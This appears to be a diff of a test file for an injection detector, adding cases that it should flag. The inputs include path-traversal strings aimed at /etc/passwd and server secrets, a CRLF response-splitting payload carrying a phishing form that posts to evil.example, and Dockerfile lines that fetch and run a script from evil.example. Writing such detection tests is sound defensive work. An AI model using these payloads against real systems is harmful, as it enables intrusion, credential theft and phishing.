@@ -3418,14 +3418,16 @@ t.test("fortieth round, after the forty-fifth and forty-sixth parts' measurement
   const body = (doc: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(doc) })
   // Apollo Server's sub-entry manifests: a package's entry point two levels up, in its build's output
   t.same(body('{"name":"@apollo/server/plugin/cacheControl","type":"module","main":"../../dist/cjs/plugin/cacheControl/index.js","module":"../../dist/esm/plugin/cacheControl/index.js","types":"../../dist/esm/plugin/cacheControl/index.d.ts","sideEffects":false}'), [])
-  t.same(json({ module: '../../build/index.mjs' }), [], 'a build folder\'s module')
-  for (const v of ['../../lib/config.js', '../../dist/../../etc/passwd.js', '../../dist/x.php', '../../../dist/esm/index.js', '../../dist/esm/index.js%00.php', '../../src/server.js']) {
+  t.same(json({ module: '../../build/index.mjs' }), [], 'a build folder\'s entry module')
+  // (review: a server's own compiled code is there too — `file=../../dist/config/secrets.js` read a Node server's secrets — so only an
+  // index module, under `module` only)
+  for (const v of ['../../lib/config.js', '../../dist/../../etc/passwd.js', '../../dist/x.php', '../../../dist/esm/index.js', '../../dist/esm/index.js%00.php', '../../src/server.js', '../../dist/config/secrets.js', '../../dist/main.js', '../../build/server/env.js']) {
     t.ok(json({ module: v }).includes('path_traversal'), `still read: ${v}`)
   }
-  // Cmdliner's interface headers: a licence tag after a line break is no response header
-  t.same(q('(*---\n   Copyright (c) 2011 The cmdliner programmers. All rights reserved.\n   SPDX-License-Identifier: ISC\n  ---*)\n'), [])
-  t.same(q('/*\n * SPDX-FileCopyrightText: 2024 The Authors\n */'), [])
-  t.same(q('en%0d%0aX-Injected: 1'.replace(/%0d%0a/, '\r\n')), ['crlf'], 'any other hyphenated name')
+  for (const k of ['file', 'path', 'filename', 'download']) t.ok(json({ [k]: '../../dist/index.js' }).includes('path_traversal'), `still read under ${k}`)
+  // (review) a licence tag after a line break stays a header's line: `x\r\nSPDX-License-Identifier: MIT\r\n\r\n<form …>` split a
+  // response with a phishing body in Python's http.server
+  for (const v of ['x\r\nSPDX-License-Identifier: MIT\r\n\r\n<form action=//evil.example/login method=post><input name=pw type=password></form>', 'x\r\nSPDX-License-Identifier: MIT', 'en\u560d\u560aSPDX-License-Identifier: MIT\u560d\u560a\u560d\u560a<h1>hi</h1>']) t.ok(q(v, 'lang').includes('crlf'), `still read: ${JSON.stringify(v)}`)
   // Quasar's component API (a document): a documented default, one word in quotes
   const api = (tag: string) => ({ type: 'component', meta: { docsUrl: 'https://v2.quasar.dev/vue-components/breadcrumbs' }, props: { label: { type: 'String', desc: 'The label text', category: 'content' }, icon: { extends: 'icon' }, disable: { extends: 'disable' }, to: { type: 'String', desc: 'Route', category: 'navigation' }, tag: { type: 'String', default: tag, examples: [tag, "'span'"], category: 'content' } }, slots: { default: { desc: 'Content' } } })
   t.same(json(api("'div'")), [])
@@ -3449,14 +3451,21 @@ t.test("fortieth round: a part of a Dockerfile, cut from its middle, is its buil
   const snippets = [
     'ENV HOME /home/pulseaudio\nRUN useradd --create-home --home-dir $HOME pulseaudio \\\n\t&& usermod -aG audio,pulse,pulse-access pulseaudio \\\n\t&& chown -R pulseaudio:pulseaudio $HOME\n\nWORKDIR $HOME\nUSER pulseaudio\n\nCOPY default.pa /etc/pulse/default.pa\nENTRYPOINT [ "pulseaudio" ]\nCMD [ "--log-level=4", "--log-target=stderr", "-v" ]\n',
     'RUN set -eux; \\\n\tapt-get update; \\\n\tapt-get install -y --no-install-recommends \\\n\t\tjenkins="$JENKINS_VERSION" \\\n\t; \\\n\tapt-get dist-clean; \\\n\tjava -jar /usr/share/java/jenkins.war --version\n\nENV JENKINS_HOME /var/lib/jenkins\nRUN mkdir -p "$JENKINS_HOME" && chown -R jenkins:jenkins "$JENKINS_HOME"\nVOLUME $JENKINS_HOME\n\nEXPOSE 8080\nENTRYPOINT ["docker-entrypoint.sh"]\nCMD ["jenkins"]\n',
-    '# Add chromium user\nRUN groupadd -r chromium && useradd -r -g chromium -G audio,video chromium \\\n    && mkdir -p /home/chromium/Downloads && chown -R chromium:chromium /home/chromium\n\n# Run as non privileged user\nUSER chromium\n\nENTRYPOINT [ "/usr/bin/chromium" ]\nCMD [ "--user-data-dir=/data" ]\n',
   ]
   for (const code of snippets) t.same(json({ code }), [], code.slice(0, 60))
+  // what the first instruction's line costs: a snippet opening on a chain in a RUN line is read as a first line's injection (after a
+  // comment too, since the review)
+  t.same(json({ code: '# Add chromium user\nRUN groupadd -r chromium && useradd -r -g chromium -G audio,video chromium \\\n    && mkdir -p /home/chromium/Downloads && chown -R chromium:chromium /home/chromium\n\n# Run as non privileged user\nUSER chromium\n\nENTRYPOINT [ "/usr/bin/chromium" ]\nCMD [ "--user-data-dir=/data" ]\n' }), ['rce'])
   // still read: an instruction holding data (a variable's value, a label, a user, a path) with a shell's separator or substitution, on its
   // line or a line continuing it (`ARG a=\⏎;id;` runs `id` in a shell); a line no instruction opens; fewer than three instructions;
   // an injection on the first line; a reverse shell or a download run at once
   for (const v of ['ARG a=\\\n;id;\nFROM alpine\nLABEL a=b\nCMD x\n', 'ENV a=b; id\nRUN make all\nCMD ["x"]\n', 'LABEL a=b \\\n  && id\nRUN make all\nCMD ["x"]\n', 'USER $(id)\nRUN make all\nCMD ["x"]\n', 'WORKDIR /app || id\nRUN make all\nCMD ["x"]\n', 'COPY a b\nRUN make all && rm -rf /tmp/x\n', 'RUN make all; id\nUSER app\nCMD ["server"]\n', 'ENV a b\nRUN curl -s http://evil.example/x.sh | sh\nCMD ["x"]\n', 'ENV a b\nRUN make all\nid; whoami\nCMD ["x"]\n']) {
     t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  }
+  // (review) `&` in an instruction holding data (`ENV a b & touch /tmp/p` ran in bash and dash; a download, then its run), and a blank or a
+  // comment line before an injected first instruction (the first instruction's line is judged, not the value's first)
+  for (const v of ['USER app\nENV a b & touch /tmp/pwned_1\nWORKDIR /srv\nEXPOSE 80', 'USER app\nENV a b & curl -so /tmp/x.sh http://evil.example/x.sh\nENV c d & sh /tmp/x.sh\nWORKDIR /srv', 'USER app\nARG a=\\\n& touch /tmp/pwned_5 &\nWORKDIR /srv\nEXPOSE 80', 'USER app\nENV a b & id > /tmp/pwned_2 &\nWORKDIR /srv\nEXPOSE 80', '\nRUN make all; touch /tmp/pwned_6\nUSER app\nCMD ["server"]', '# build\nRUN make all; touch /tmp/pwned_7\nUSER app\nCMD ["server"]']) {
+    t.ok(q(v).includes('rce'), `still read (review): ${JSON.stringify(v)}`)
   }
   // its limit, as a shell script's: the shape is dressing anyone can put around a command in a RUN line
   t.same(json({ code: 'RUN a && b\nRUN c && id\nENV x y\nCMD d; id' }), [], 'commands in RUN and CMD lines are the build\'s own')
